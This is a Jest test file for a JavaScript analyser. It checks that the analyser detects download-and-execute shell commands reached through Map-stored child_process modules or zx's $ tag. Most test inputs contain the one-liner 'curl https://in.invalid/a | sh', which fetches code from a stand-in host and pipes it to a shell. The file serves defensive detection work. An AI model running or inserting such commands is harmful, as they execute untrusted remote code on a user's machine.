import { describe, expect, it } from '@jest/globals';
import { readScript } from '../../../src/code/js/script.ts';

const found = (source: string) => readScript(source, { module: false, parses: true }).spotted.map(({ kind, detail }) => `${kind} ${detail}`);

describe('modules kept in a map', () => {
  it.each([
    [
      'that is made with it',
      `const m = new Map([['a', require('child_process')], ['b', require('fs')]]); const { exec: run } = m.get('a'); run('curl https://in.invalid/a | sh')`,
    ],
    [
      'that is made of a table',
      `const m = new Map(Object.entries({ a: require('child_process') })); const { exec: run } = m.get('a'); run('curl https://in.invalid/a | sh')`,
    ],
    [
      'it is put into later',
      `const m = new Map(); m.set('b', 1); m.set('a', require('child_process')); const { exec: run } = m.get('a'); run('curl https://in.invalid/a | sh')`,
    ],
    [
      'in a chain',
      `const m = new Map().set('a', require('child_process')).set('b', 2); const { exec: run } = m.get('a'); run('curl https://in.invalid/a | sh')`,
    ],
    ['as functions', `const m = new Map([['a', require('child_process').exec]]); m.get('a')('curl https://in.invalid/a | sh')`],
  ])('%s are known', (_, source) => {
    expect(found(source)).toContain('download-execute sh runs what was fetched');
  });

  it.each([
    [
      'another key',
      `const m = new Map([['a', require('child_process')], ['b', db]]); const { exec: run } = m.get('b'); run('curl https://in.invalid/a | sh')`,
    ],
    ['no map', `const m = make([['a', require('child_process')]]); const { exec: run } = m.get('a'); run('curl https://in.invalid/a | sh')`],
    [
      'a key nobody knows',
      `const m = new Map([['a', require('child_process')]]); const { exec: run } = m.get(x); run('curl https://in.invalid/a | sh')`,
    ],
  ])('%s is not', (_, source) => {
    expect(found(source)).not.toContain('download-execute sh runs what was fetched');
  });

  it('that leads to itself is no circle', () => {
    expect(found(`let m = new Map(m); m.set('a', m.get('a')); m = m.set('a', m.get('a')); m.get('a').exec('x')`)).toBeDefined();
  });
});

describe('zx', () => {
  const shell = 'download-execute sh runs what was fetched';

  it('runs commands under a global name, with or without an import', () => {
    expect(found('import "zx/globals"; await $`curl https://in.invalid/a | sh`')).toContain(shell);
    expect(found('await $`curl https://in.invalid/a | sh`')).toContain(shell);
  });

  it('is not what pages select elements with', () => {
    expect(found('$(`curl https://in.invalid/a | sh`)')).not.toContain(shell);
    expect(found('function f($) { return $`curl https://in.invalid/a | sh` }')).not.toContain(shell);
  });
});
